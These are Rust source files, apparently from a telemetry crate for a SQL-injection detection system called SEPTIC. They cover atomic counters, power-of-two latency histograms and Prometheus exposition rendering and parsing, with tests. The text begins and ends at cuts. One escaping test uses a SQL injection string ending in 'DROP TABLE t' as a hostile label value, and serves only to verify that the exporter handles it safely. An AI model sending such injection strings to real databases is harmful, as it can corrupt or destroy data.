        if out.insert(name.to_string(), value).is_some() {
            return Err(format!("line {}: duplicate series {name}", lineno + 1));
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::MetricsRegistry;
    use std::time::Duration;

    #[test]
    fn render_and_parse_round_trip() {
        let reg = MetricsRegistry::new();
        reg.counter("septic_attacks_total").add(3);
        reg.counter("septic_queries_total").add(10);
        let h = reg.histogram("septic_stage_duration_microseconds{stage=\"id_gen\"}");
        h.record(Duration::from_micros(3));
        h.record(Duration::from_micros(900));
        let text = reg.snapshot().to_prometheus();
        let parsed = parse_prometheus(&text).expect("export must parse");
        assert_eq!(parsed["septic_attacks_total"], 3.0);
        assert_eq!(parsed["septic_queries_total"], 10.0);
        assert_eq!(
            parsed["septic_stage_duration_microseconds_count{stage=\"id_gen\"}"],
            2.0
        );
        assert_eq!(
            parsed["septic_stage_duration_microseconds_sum{stage=\"id_gen\"}"],
            903.0
        );
        // Cumulative buckets: the le="4" bucket holds the 3us sample.
        assert_eq!(
            parsed["septic_stage_duration_microseconds_bucket{stage=\"id_gen\",le=\"4\"}"],
            1.0
        );
        assert_eq!(
            parsed["septic_stage_duration_microseconds_bucket{stage=\"id_gen\",le=\"+Inf\"}"],
            2.0
        );
    }

    #[test]
    fn count_always_equals_inf_bucket_in_rendered_text() {
        let reg = MetricsRegistry::new();
        let h = reg.histogram("lat_microseconds");
        for i in 0..50 {
            h.record(Duration::from_micros(i * 37));
        }
        let parsed = parse_prometheus(&reg.snapshot().to_prometheus()).unwrap();
        assert_eq!(
            parsed["lat_microseconds_count"],
            parsed["lat_microseconds_bucket{le=\"+Inf\"}"]
        );
    }

    #[test]
    fn label_value_extracts_embedded_labels() {
        assert_eq!(
            label_value(
                "septic_stage_duration_microseconds{stage=\"qs_build\"}",
                "stage"
            ),
            Some("qs_build")
        );
        assert_eq!(label_value("plain_total", "stage"), None);
        assert_eq!(
            label_value("x{a=\"1\",stage=\"guard\"}", "stage"),
            Some("guard")
        );
    }

    #[test]
    fn malformed_lines_are_rejected() {
        assert!(parse_prometheus("just_a_name").is_err());
        assert!(parse_prometheus("name not_a_number").is_err());
        assert!(parse_prometheus("name{unclosed 1").is_err());
        assert!(parse_prometheus("{no_name} 1").is_err());
        assert!(parse_prometheus("dup 1\ndup 2").is_err());
        assert!(parse_prometheus("# comment only\n\n").unwrap().is_empty());
    }
}
