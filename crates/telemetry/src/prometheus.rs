//! Prometheus text exposition: render a [`MetricsSnapshot`] and parse
//! the result back. The parser exists so CI can validate the export
//! end to end (scrape → parse → compare against golden counts) without
//! a real Prometheus server in the loop.
//!
//! Label values are escaped per the exposition format (`\\`, `\"`, `\n`):
//! series that surface hostile text — attack SQL fragments in event
//! labels, say — must still produce parseable exposition lines. The
//! renderer canonicalizes label sets (escaping raw quotes, backslashes
//! and newlines callers embedded in registry names) and the parser scans
//! quote-aware, so `}`/`,`/space inside a quoted value never confuses it.

use crate::histogram::bucket_bounds_us;
use crate::registry::MetricsSnapshot;
use std::borrow::Cow;
use std::collections::BTreeMap;

/// Escape a label value for the text exposition format: backslash,
/// double-quote and newline become `\\`, `\"` and `\n`.
#[must_use]
pub fn escape_label_value(v: &str) -> String {
    let mut out = String::with_capacity(v.len());
    for c in v.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\n' => out.push_str("\\n"),
            _ => out.push(c),
        }
    }
    out
}

/// Inverse of [`escape_label_value`]. Unknown escapes pass the escaped
/// character through (Prometheus' own lenient behaviour).
fn unescape_label_value(v: &str) -> Cow<'_, str> {
    if !v.contains('\\') {
        return Cow::Borrowed(v);
    }
    let mut out = String::with_capacity(v.len());
    let mut chars = v.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('n') => out.push('\n'),
                Some(other) => out.push(other),
                None => out.push('\\'),
            }
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Build a `family{k="v",…}` series name with properly escaped values.
/// The canonical way to attach a dynamic (possibly hostile) label value
/// to a registry metric name.
#[must_use]
pub fn labeled_name(family: &str, labels: &[(&str, &str)]) -> String {
    if labels.is_empty() {
        return family.to_string();
    }
    let body: Vec<String> = labels
        .iter()
        .map(|(k, v)| format!("{k}=\"{}\"", escape_label_value(v)))
        .collect();
    format!("{family}{{{}}}", body.join(","))
}

/// Split a registry name into `(family, labels)` where `labels` is the
/// inside of an optional trailing `{...}`.
fn split_name(name: &str) -> (&str, Option<&str>) {
    match name.find('{') {
        Some(i) if name.ends_with('}') => (&name[..i], Some(&name[i + 1..name.len() - 1])),
        _ => (name, None),
    }
}

/// Scan an *escaped* label body (`k="v",k2="v2"`) into raw
/// (still-escaped) `(key, value)` slices. Quote- and escape-aware:
/// `,`/`}`/spaces inside quoted values are fine. Returns `None` when the
/// body is not in canonical form (e.g. a caller embedded raw quotes).
fn scan_label_pairs(labels: &str) -> Option<Vec<(&str, &str)>> {
    let mut pairs = Vec::new();
    let bytes = labels.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        let key_start = i;
        while i < bytes.len() && bytes[i] != b'=' {
            i += 1;
        }
        let key = labels[key_start..i].trim();
        if key.is_empty() || i >= bytes.len() {
            return None;
        }
        i += 1; // '='
        if i >= bytes.len() || bytes[i] != b'"' {
            return None;
        }
        i += 1; // opening quote
        let val_start = i;
        loop {
            match bytes.get(i) {
                Some(b'\\') => i += 2,
                Some(b'"') => break,
                Some(_) => i += 1,
                None => return None, // unterminated value
            }
        }
        pairs.push((key, &labels[val_start..i]));
        i += 1; // closing quote
        match bytes.get(i) {
            None => break,
            Some(b',') => i += 1,
            Some(_) => return None,
        }
    }
    Some(pairs)
}

/// Re-serialize a label body in canonical escaped form. Canonical input
/// passes through re-escaped (idempotent); a body with raw quotes or
/// newlines (a caller formatted hostile text straight into the name) is
/// recovered best-effort: everything after the first `="` up to the last
/// closing quote is treated as one raw value and escaped.
fn canonicalize_labels(labels: &str) -> String {
    if let Some(pairs) = scan_label_pairs(labels) {
        let body: Vec<String> = pairs
            .iter()
            .map(|(k, v)| format!("{k}=\"{}\"", escape_label_value(&unescape_label_value(v))))
            .collect();
        return body.join(",");
    }
    if let Some(eq) = labels.find('=') {
        let (key, rest) = labels.split_at(eq);
        let raw = rest[1..]
            .trim()
            .trim_start_matches('"')
            .trim_end_matches('"');
        return format!("{}=\"{}\"", key.trim(), escape_label_value(raw));
    }
    format!("label=\"{}\"", escape_label_value(labels))
}

/// Build a series name `family{existing,extra}` from its parts; the
/// existing label body is canonicalized (escaped) on the way through.
fn series(family: &str, labels: Option<&str>, extra: Option<&str>) -> String {
    let canon = labels.map(canonicalize_labels);
    match (canon, extra) {
        (None, None) => family.to_string(),
        (Some(l), None) => format!("{family}{{{l}}}"),
        (None, Some(e)) => format!("{family}{{{e}}}"),
        (Some(l), Some(e)) => format!("{family}{{{l},{e}}}"),
    }
}

/// Extract the (unescaped) value of `label` from a series name such as
/// `septic_stage_duration_microseconds{stage="id_gen"}`.
#[must_use]
pub fn label_value<'a>(name: &'a str, label: &str) -> Option<Cow<'a, str>> {
    let (_, labels) = split_name(name);
    let labels = labels?;
    if let Some(pairs) = scan_label_pairs(labels) {
        for (k, v) in pairs {
            if k == label {
                return Some(unescape_label_value(v));
            }
        }
        return None;
    }
    // Non-canonical body: fall back to the naive comma split.
    for pair in labels.split(',') {
        let (k, v) = pair.split_once('=')?;
        if k.trim() == label {
            return Some(Cow::Borrowed(v.trim().trim_matches('"')));
        }
    }
    None
}

/// Render a snapshot in Prometheus text exposition format.
///
/// Counters become `family value` series; histograms become cumulative
/// `family_bucket{le="..."}` series plus `family_sum` / `family_count`.
/// Within the rendered text `family_count` always equals the
/// `le="+Inf"` bucket, as Prometheus requires.
pub fn render_prometheus(snapshot: &MetricsSnapshot) -> String {
    let mut out = String::new();
    let mut last_family = String::new();
    for c in &snapshot.counters {
        let (family, labels) = split_name(&c.name);
        if family != last_family {
            out.push_str(&format!("# TYPE {family} counter\n"));
            last_family = family.to_string();
        }
        out.push_str(&format!("{} {}\n", series(family, labels, None), c.value));
    }
    let bounds = bucket_bounds_us();
    for h in &snapshot.histograms {
        let (family, labels) = split_name(&h.name);
        if family != last_family {
            out.push_str(&format!("# TYPE {family} histogram\n"));
            last_family = family.to_string();
        }
        let mut cumulative = 0u64;
        for (i, bucket) in h.buckets.iter().enumerate() {
            cumulative += bucket;
            let le = if i < bounds.len() {
                bounds[i].to_string()
            } else {
                "+Inf".to_string()
            };
            let extra = format!("le=\"{le}\"");
            out.push_str(&format!(
                "{} {}\n",
                series(&format!("{family}_bucket"), labels, Some(&extra)),
                cumulative
            ));
        }
        out.push_str(&format!(
            "{} {}\n",
            series(&format!("{family}_sum"), labels, None),
            h.sum_us
        ));
        out.push_str(&format!(
            "{} {}\n",
            series(&format!("{family}_count"), labels, None),
            cumulative
        ));
    }
    out
}

/// Parse Prometheus text exposition into `series name -> value`.
///
/// Comment (`#`) and blank lines are skipped; anything else must be
/// `name[{labels}] value` or the whole text is rejected — CI treats a
/// parse failure as a broken exporter. The label-set scan is quote- and
/// escape-aware, so escaped quotes, `}` and spaces inside label values
/// parse correctly.
pub fn parse_prometheus(text: &str) -> Result<BTreeMap<String, f64>, String> {
    let mut out = BTreeMap::new();
    for (lineno, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let split_at = match line.find('{') {
            Some(open) => scan_to_label_end(line, open)
                .ok_or_else(|| format!("line {}: unclosed label set", lineno + 1))?,
            None => line
                .find(' ')
                .ok_or_else(|| format!("line {}: no value", lineno + 1))?,
        };
        let (name, rest) = line.split_at(split_at);
        let value: f64 = rest
            .trim()
            .parse()
            .map_err(|_| format!("line {}: bad value {:?}", lineno + 1, rest.trim()))?;
        if name.is_empty()
            || !name
                .chars()
                .next()
                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        {
            return Err(format!("line {}: bad metric name {name:?}", lineno + 1));
        }
        if out.insert(name.to_string(), value).is_some() {
            return Err(format!("line {}: duplicate series {name}", lineno + 1));
        }
    }
    Ok(out)
}

/// Index one past the closing `}` of the label set opening at `open`,
/// honouring quoted values and backslash escapes inside them.
fn scan_to_label_end(line: &str, open: usize) -> Option<usize> {
    let bytes = line.as_bytes();
    let mut i = open + 1;
    let mut in_quotes = false;
    while i < bytes.len() {
        match bytes[i] {
            b'\\' if in_quotes => i += 1,
            b'"' => in_quotes = !in_quotes,
            b'}' if !in_quotes => return Some(i + 1),
            _ => {}
        }
        i += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::MetricsRegistry;
    use std::time::Duration;

    #[test]
    fn render_and_parse_round_trip() {
        let reg = MetricsRegistry::new();
        reg.counter("septic_attacks_total").add(3);
        reg.counter("septic_queries_total").add(10);
        let h = reg.histogram("septic_stage_duration_microseconds{stage=\"id_gen\"}");
        h.record(Duration::from_micros(3));
        h.record(Duration::from_micros(900));
        let text = reg.snapshot().to_prometheus();
        let parsed = parse_prometheus(&text).expect("export must parse");
        assert_eq!(parsed["septic_attacks_total"], 3.0);
        assert_eq!(parsed["septic_queries_total"], 10.0);
        assert_eq!(
            parsed["septic_stage_duration_microseconds_count{stage=\"id_gen\"}"],
            2.0
        );
        assert_eq!(
            parsed["septic_stage_duration_microseconds_sum{stage=\"id_gen\"}"],
            903.0
        );
        // Cumulative buckets: the le="4" bucket holds the 3us sample.
        assert_eq!(
            parsed["septic_stage_duration_microseconds_bucket{stage=\"id_gen\",le=\"4\"}"],
            1.0
        );
        assert_eq!(
            parsed["septic_stage_duration_microseconds_bucket{stage=\"id_gen\",le=\"+Inf\"}"],
            2.0
        );
    }

    #[test]
    fn count_always_equals_inf_bucket_in_rendered_text() {
        let reg = MetricsRegistry::new();
        let h = reg.histogram("lat_microseconds");
        for i in 0..50 {
            h.record(Duration::from_micros(i * 37));
        }
        let parsed = parse_prometheus(&reg.snapshot().to_prometheus()).unwrap();
        assert_eq!(
            parsed["lat_microseconds_count"],
            parsed["lat_microseconds_bucket{le=\"+Inf\"}"]
        );
    }

    #[test]
    fn label_value_extracts_embedded_labels() {
        assert_eq!(
            label_value(
                "septic_stage_duration_microseconds{stage=\"qs_build\"}",
                "stage"
            )
            .as_deref(),
            Some("qs_build")
        );
        assert_eq!(label_value("plain_total", "stage"), None);
        assert_eq!(
            label_value("x{a=\"1\",stage=\"guard\"}", "stage").as_deref(),
            Some("guard")
        );
    }

    #[test]
    fn label_value_unescapes() {
        let name = labeled_name("evil_total", &[("sql", "a\"b\\c\nd")]);
        assert_eq!(label_value(&name, "sql").as_deref(), Some("a\"b\\c\nd"));
    }

    #[test]
    fn malformed_lines_are_rejected() {
        assert!(parse_prometheus("just_a_name").is_err());
        assert!(parse_prometheus("name not_a_number").is_err());
        assert!(parse_prometheus("name{unclosed 1").is_err());
        assert!(parse_prometheus("{no_name} 1").is_err());
        assert!(parse_prometheus("dup 1\ndup 2").is_err());
        assert!(parse_prometheus("# comment only\n\n").unwrap().is_empty());
    }

    #[test]
    fn hostile_label_values_render_parseable_and_round_trip() {
        // An attack SQL fragment with every character the exposition
        // format treats specially: quote, backslash, newline, plus
        // `}`/`,`/space which must survive inside the quoted value.
        let hostile = "x' OR \"1\"=\"1\" -- \\ {a,b}\nDROP TABLE t";
        let reg = MetricsRegistry::new();
        reg.counter(&labeled_name(
            "septic_attack_fragment_total",
            &[("sql", hostile)],
        ))
        .add(2);
        let text = reg.snapshot().to_prometheus();
        let parsed = parse_prometheus(&text).expect("escaped export must parse");
        let (name, value) = parsed
            .iter()
            .find(|(k, _)| k.starts_with("septic_attack_fragment_total"))
            .expect("series present");
        assert_eq!(*value, 2.0);
        // The escaped name round-trips back to the hostile original.
        assert_eq!(label_value(name, "sql").as_deref(), Some(hostile));
        // Exactly one physical line carries the series: the raw newline
        // was escaped, not emitted.
        assert_eq!(
            text.lines()
                .filter(|l| l.starts_with("septic_attack_fragment_total"))
                .count(),
            1
        );
    }

    #[test]
    fn raw_unescaped_names_are_canonicalized_at_render_time() {
        // A legacy caller formats hostile text straight into the name
        // without `labeled_name`. The renderer must still emit something
        // parseable rather than a broken exposition.
        let reg = MetricsRegistry::new();
        reg.counter("bad_total{sql=\"a\"b\nc\"}").inc();
        let text = reg.snapshot().to_prometheus();
        let parsed = parse_prometheus(&text).expect("canonicalized export must parse");
        assert_eq!(parsed.len(), 1);
        let name = parsed.keys().next().unwrap();
        assert!(name.starts_with("bad_total{sql="));
        assert_eq!(label_value(name, "sql").as_deref(), Some("a\"b\nc"));
    }

    #[test]
    fn labeled_name_escapes_and_is_idempotent_through_render() {
        assert_eq!(labeled_name("m_total", &[]), "m_total");
        assert_eq!(
            labeled_name("m_total", &[("k", "plain")]),
            "m_total{k=\"plain\"}"
        );
        let name = labeled_name("m_total", &[("k", "q\"x")]);
        assert_eq!(name, "m_total{k=\"q\\\"x\"}");
        // Canonical input passes through render unchanged (no double
        // escaping).
        assert_eq!(canonicalize_labels("k=\"q\\\"x\""), "k=\"q\\\"x\"");
    }
}
