//! # septic-telemetry — lock-free metrics for the SEPTIC query path
//!
//! The event logger in `septic` keeps a *bounded* ring of event details:
//! under sustained traffic it wraps, and anything derived by scanning it
//! (such as the old `attack_count()`) silently undercounts. This crate is
//! the fix-by-design: **monotonic counters** and **fixed-bucket latency
//! histograms** that are updated lock-free on the hot path and are exact
//! regardless of how many events the detail ring has evicted.
//!
//! Three export surfaces sit on top of the same primitives:
//!
//! 1. [`MetricsSnapshot`] — a serializable point-in-time copy of every
//!    registered metric (the programmatic API);
//! 2. [`render_prometheus`] — Prometheus text exposition
//!    (`septic_attacks_total`, `…_bucket{le="…"}` series), plus a
//!    [`parse_prometheus`] used by CI to validate the export end to end;
//! 3. the `SHOW SEPTIC STATUS` admin statement in `septic-dbms`, which
//!    formats a snapshot as result rows.
//!
//! ## Exactness and torn-read freedom
//!
//! Counters are single `AtomicU64`s — trivially exact. Histograms update
//! several atomics per record (one bucket, the sum, the max, the count);
//! the writer bumps `count` **last** (release) and readers load it
//! **first** (acquire), so a snapshot always satisfies
//! `count <= Σ buckets` and `percentile` ranks computed against `count`
//! never read past data that is still being written. Snapshots are
//! wait-free for writers: recording never blocks on an in-progress read.

mod histogram;
mod prometheus;
mod registry;

pub use histogram::{bucket_bounds_us, Histogram, HistogramSnapshot, BUCKET_COUNT};
pub use prometheus::{
    escape_label_value, label_value, labeled_name, parse_prometheus, render_prometheus,
};
pub use registry::{CounterSample, MetricsRegistry, MetricsSnapshot};

use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

/// A `Duration` as whole microseconds, saturating at `u64::MAX` instead
/// of panicking or wrapping. Span accounting across the query pipeline
/// uses this everywhere a stage time is turned into a metric sample:
/// a zero-length stage records 0 and a pathological clock reading
/// (`Duration::MAX`, a stalled VM resuming hours later) records
/// `u64::MAX` — never a wrapped small number that would hide the stall.
#[must_use]
pub fn saturating_micros(d: Duration) -> u64 {
    u64::try_from(d.as_micros()).unwrap_or(u64::MAX)
}

/// A monotonic event counter. Cheap to clone behind an `Arc`; all
/// operations are single relaxed atomic instructions.
#[derive(Debug, Default)]
pub struct Counter {
    value: AtomicU64,
}

impl Counter {
    /// A fresh counter at zero.
    pub fn new() -> Self {
        Self::default()
    }

    /// Add one.
    pub fn inc(&self) {
        self.add(1);
    }

    /// Add `n`.
    pub fn add(&self, n: u64) {
        self.value.fetch_add(n, Ordering::Relaxed);
    }

    /// Overwrite the value. Only for counters mirrored from another
    /// monotonic source (e.g. the logger's drop count); normal call
    /// sites should use [`Counter::inc`]/[`Counter::add`].
    pub fn set(&self, n: u64) {
        self.value.store(n, Ordering::Relaxed);
    }

    /// Current value.
    pub fn get(&self) -> u64 {
        self.value.load(Ordering::Relaxed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;
    use std::thread;

    #[test]
    fn saturating_micros_handles_clock_edge_cases() {
        // A zero-length stage is 0, not garbage.
        assert_eq!(saturating_micros(Duration::ZERO), 0);
        assert_eq!(saturating_micros(Duration::from_micros(1)), 1);
        // A span that exceeds u64 microseconds saturates instead of
        // panicking or wrapping to a small value.
        assert_eq!(saturating_micros(Duration::MAX), u64::MAX);
        assert_eq!(
            saturating_micros(Duration::from_secs(u64::MAX / 1_000_000 + 1)),
            u64::MAX
        );
        // The largest representable span below the saturation point is
        // still exact.
        let exact = Duration::from_micros(u64::MAX / 2);
        assert_eq!(saturating_micros(exact), u64::MAX / 2);
    }

    #[test]
    fn counter_is_exact_across_threads() {
        let c = Arc::new(Counter::new());
        let mut handles = Vec::new();
        for _ in 0..8 {
            let c = Arc::clone(&c);
            handles.push(thread::spawn(move || {
                for _ in 0..10_000 {
                    c.inc();
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(c.get(), 80_000);
    }

    #[test]
    fn registry_hammered_from_eight_threads_is_exact() {
        let reg = Arc::new(MetricsRegistry::new());
        // Handles are resolved once and shared, like real call sites.
        let hits = reg.counter("hits_total");
        let lat = reg.histogram("lat_microseconds");
        let mut handles = Vec::new();
        for t in 0..8u64 {
            let hits = Arc::clone(&hits);
            let lat = Arc::clone(&lat);
            handles.push(thread::spawn(move || {
                for i in 0..5_000u64 {
                    hits.inc();
                    lat.record(Duration::from_micros(t * 5_000 + i));
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        let snap = reg.snapshot();
        assert_eq!(snap.counter("hits_total"), Some(40_000));
        let h = snap.histogram("lat_microseconds").unwrap();
        assert_eq!(h.count, 40_000);
        assert_eq!(h.buckets.iter().sum::<u64>(), 40_000);
        // Sum of 0..40_000 microseconds, exactly.
        assert_eq!(h.sum_us, (0..40_000u64).sum::<u64>());
        assert_eq!(h.max_us, 39_999);
    }

    #[test]
    fn snapshot_while_recording_never_tears() {
        // One writer records as fast as it can; a reader snapshots
        // concurrently and checks the count-last invariant on every
        // observation: `count` must never exceed the bucket total or
        // claim microseconds that `sum_us` has not yet absorbed.
        let h = Arc::new(Histogram::new());
        let writer = {
            let h = Arc::clone(&h);
            thread::spawn(move || {
                for i in 0..200_000u64 {
                    h.record(Duration::from_micros(i % 4096));
                }
            })
        };
        let mut observations = 0u64;
        while observations < 10_000 {
            let snap = h.snapshot("x");
            let bucket_total: u64 = snap.buckets.iter().sum();
            assert!(
                snap.count <= bucket_total,
                "torn read: count {} > bucket total {}",
                snap.count,
                bucket_total
            );
            // Every record contributes at most 4095us to sum and max.
            assert!(snap.sum_us <= 200_000 * 4095);
            assert!(snap.max_us <= 4095);
            // Percentiles must be computable mid-flight without panicking.
            let p = snap.percentile_us(99.0);
            assert!(p <= 4096 || p == snap.max_us);
            observations += 1;
        }
        writer.join().unwrap();
        let fin = h.snapshot("x");
        assert_eq!(fin.count, 200_000);
        assert_eq!(fin.buckets.iter().sum::<u64>(), 200_000);
    }
}
