//! Name → metric registry and serializable snapshots.
//!
//! The registry is only locked on the *cold* path (first registration,
//! snapshotting); hot-path call sites resolve their `Arc` handles once
//! at construction time and then record lock-free.

use crate::histogram::{Histogram, HistogramSnapshot};
use crate::prometheus::render_prometheus;
use crate::Counter;
use parking_lot::Mutex;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::sync::Arc;

/// A registry of named counters and histograms.
///
/// Names may embed a single Prometheus-style label set, e.g.
/// `septic_stage_duration_microseconds{stage="id_gen"}` — the exporter
/// folds the `le` bucket label into it.
#[derive(Debug, Default)]
pub struct MetricsRegistry {
    counters: Mutex<BTreeMap<String, Arc<Counter>>>,
    histograms: Mutex<BTreeMap<String, Arc<Histogram>>>,
}

impl MetricsRegistry {
    /// An empty registry.
    pub fn new() -> Self {
        Self::default()
    }

    /// Get or register the counter called `name`.
    pub fn counter(&self, name: &str) -> Arc<Counter> {
        let mut map = self.counters.lock();
        Arc::clone(
            map.entry(name.to_string())
                .or_insert_with(|| Arc::new(Counter::new())),
        )
    }

    /// Get or register the histogram called `name`.
    pub fn histogram(&self, name: &str) -> Arc<Histogram> {
        let mut map = self.histograms.lock();
        Arc::clone(
            map.entry(name.to_string())
                .or_insert_with(|| Arc::new(Histogram::new())),
        )
    }

    /// Point-in-time copy of every registered metric, sorted by name.
    pub fn snapshot(&self) -> MetricsSnapshot {
        let counters = self
            .counters
            .lock()
            .iter()
            .map(|(name, c)| CounterSample {
                name: name.clone(),
                value: c.get(),
            })
            .collect();
        let histograms = self
            .histograms
            .lock()
            .iter()
            .map(|(name, h)| h.snapshot(name))
            .collect();
        MetricsSnapshot {
            counters,
            histograms,
        }
    }
}

/// One named counter value inside a [`MetricsSnapshot`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CounterSample {
    /// Metric name (optionally with an embedded label set).
    pub name: String,
    /// Value at snapshot time.
    pub value: u64,
}

/// A serializable point-in-time copy of a [`MetricsRegistry`] — the
/// programmatic face of the telemetry layer.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct MetricsSnapshot {
    /// All counters, sorted by name.
    pub counters: Vec<CounterSample>,
    /// All histograms, sorted by name.
    pub histograms: Vec<HistogramSnapshot>,
}

impl MetricsSnapshot {
    /// Value of the counter called `name`, if registered.
    pub fn counter(&self, name: &str) -> Option<u64> {
        self.counters
            .iter()
            .find(|c| c.name == name)
            .map(|c| c.value)
    }

    /// The histogram called `name`, if registered.
    pub fn histogram(&self, name: &str) -> Option<&HistogramSnapshot> {
        self.histograms.iter().find(|h| h.name == name)
    }

    /// Absorb all samples from `other` (used to merge the server's
    /// pipeline metrics with the guard's detection metrics).
    pub fn extend(&mut self, other: MetricsSnapshot) {
        self.counters.extend(other.counters);
        self.histograms.extend(other.histograms);
        self.counters.sort_by(|a, b| a.name.cmp(&b.name));
        self.histograms.sort_by(|a, b| a.name.cmp(&b.name));
    }

    /// Render in Prometheus text exposition format.
    pub fn to_prometheus(&self) -> String {
        render_prometheus(self)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    #[test]
    fn registry_returns_the_same_handle_for_a_name() {
        let reg = MetricsRegistry::new();
        let a = reg.counter("x_total");
        let b = reg.counter("x_total");
        a.inc();
        b.add(2);
        assert_eq!(reg.snapshot().counter("x_total"), Some(3));
        assert!(Arc::ptr_eq(&a, &b));
    }

    #[test]
    fn snapshot_round_trips_through_json() {
        let reg = MetricsRegistry::new();
        reg.counter("a_total").add(7);
        reg.histogram("b_microseconds")
            .record(Duration::from_micros(42));
        let snap = reg.snapshot();
        let json = serde_json::to_string(&snap).unwrap();
        let back: MetricsSnapshot = serde_json::from_str(&json).unwrap();
        assert_eq!(back, snap);
        assert_eq!(back.histogram("b_microseconds").unwrap().count, 1);
    }

    #[test]
    fn extend_merges_and_sorts() {
        let a = MetricsRegistry::new();
        a.counter("m_total").inc();
        let b = MetricsRegistry::new();
        b.counter("a_total").inc();
        let mut snap = a.snapshot();
        snap.extend(b.snapshot());
        let names: Vec<_> = snap.counters.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, vec!["a_total", "m_total"]);
    }
}
