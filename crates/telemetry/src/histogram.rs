//! Fixed-bucket latency histogram with wait-free recording.
//!
//! Buckets are powers of two in microseconds (1us .. ~1.05s) plus an
//! overflow bucket, so bucket selection is branch-light and the layout
//! is identical for every histogram — snapshots and the Prometheus
//! renderer never need per-histogram bound tables.

use serde::{Deserialize, Serialize};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

/// Number of buckets: 21 power-of-two upper bounds (`le=1` .. `le=2^20`
/// microseconds) plus one overflow (`+Inf`) bucket.
pub const BUCKET_COUNT: usize = 22;

/// The finite upper bounds (inclusive, microseconds) of the first
/// `BUCKET_COUNT - 1` buckets.
pub fn bucket_bounds_us() -> [u64; BUCKET_COUNT - 1] {
    let mut bounds = [0u64; BUCKET_COUNT - 1];
    for (i, b) in bounds.iter_mut().enumerate() {
        *b = 1u64 << i;
    }
    bounds
}

/// Index of the bucket a `us` observation falls into.
fn bucket_index(us: u64) -> usize {
    if us <= 1 {
        return 0;
    }
    let idx = 64 - (us - 1).leading_zeros() as usize;
    idx.min(BUCKET_COUNT - 1)
}

/// A lock-free latency histogram.
///
/// Recording touches one bucket, the running sum, the running max and
/// the count — in that order, with the count bumped **last** with
/// release ordering. Snapshots load the count **first** with acquire
/// ordering, which guarantees `count <= Σ buckets` in every snapshot:
/// a rank computed against `count` always lands on fully-written data.
#[derive(Debug)]
pub struct Histogram {
    buckets: [AtomicU64; BUCKET_COUNT],
    sum_us: AtomicU64,
    max_us: AtomicU64,
    count: AtomicU64,
}

impl Default for Histogram {
    fn default() -> Self {
        Self::new()
    }
}

impl Histogram {
    /// A fresh, empty histogram.
    pub fn new() -> Self {
        Self {
            buckets: std::array::from_fn(|_| AtomicU64::new(0)),
            sum_us: AtomicU64::new(0),
            max_us: AtomicU64::new(0),
            count: AtomicU64::new(0),
        }
    }

    /// Record one latency observation.
    pub fn record(&self, d: Duration) {
        self.record_us(u64::try_from(d.as_micros()).unwrap_or(u64::MAX));
    }

    /// Record one observation already expressed in microseconds.
    pub fn record_us(&self, us: u64) {
        self.buckets[bucket_index(us)].fetch_add(1, Ordering::Relaxed);
        self.sum_us.fetch_add(us, Ordering::Relaxed);
        self.max_us.fetch_max(us, Ordering::Relaxed);
        // Publish last: a reader that observes this increment also
        // observes the bucket/sum/max writes above (release/acquire).
        self.count.fetch_add(1, Ordering::Release);
    }

    /// Number of completed observations.
    pub fn count(&self) -> u64 {
        self.count.load(Ordering::Acquire)
    }

    /// Point-in-time copy, tagged with `name` for export.
    pub fn snapshot(&self, name: &str) -> HistogramSnapshot {
        // Count first (acquire): everything the `count`-th writer wrote
        // before its release increment is visible below.
        let count = self.count.load(Ordering::Acquire);
        HistogramSnapshot {
            name: name.to_string(),
            count,
            sum_us: self.sum_us.load(Ordering::Relaxed),
            max_us: self.max_us.load(Ordering::Relaxed),
            buckets: self
                .buckets
                .iter()
                .map(|b| b.load(Ordering::Relaxed))
                .collect(),
        }
    }
}

/// Serializable point-in-time copy of a [`Histogram`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HistogramSnapshot {
    /// Metric name, possibly carrying a `{label="value"}` suffix.
    pub name: String,
    /// Completed observations (never more than `buckets` total).
    pub count: u64,
    /// Sum of all observations, microseconds.
    pub sum_us: u64,
    /// Largest single observation, microseconds.
    pub max_us: u64,
    /// Per-bucket (non-cumulative) observation counts; the last entry
    /// is the overflow bucket.
    pub buckets: Vec<u64>,
}

impl HistogramSnapshot {
    /// Nearest-rank percentile, `p` in `(0, 100]`. Observations in a
    /// finite bucket report that bucket's upper bound; overflow
    /// observations report the recorded maximum. Returns 0 when empty.
    pub fn percentile_us(&self, p: f64) -> u64 {
        if self.count == 0 {
            return 0;
        }
        let rank = ((p / 100.0) * self.count as f64).ceil().max(1.0) as u64;
        let bounds = bucket_bounds_us();
        let mut seen = 0u64;
        for (i, c) in self.buckets.iter().enumerate() {
            seen += c;
            if seen >= rank {
                return if i < bounds.len() {
                    bounds[i]
                } else {
                    self.max_us
                };
            }
        }
        self.max_us
    }

    /// Arithmetic mean in microseconds (0 when empty).
    pub fn mean_us(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.sum_us as f64 / self.count as f64
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bucket_index_matches_power_of_two_bounds() {
        assert_eq!(bucket_index(0), 0);
        assert_eq!(bucket_index(1), 0);
        assert_eq!(bucket_index(2), 1);
        assert_eq!(bucket_index(3), 2);
        assert_eq!(bucket_index(4), 2);
        assert_eq!(bucket_index(5), 3);
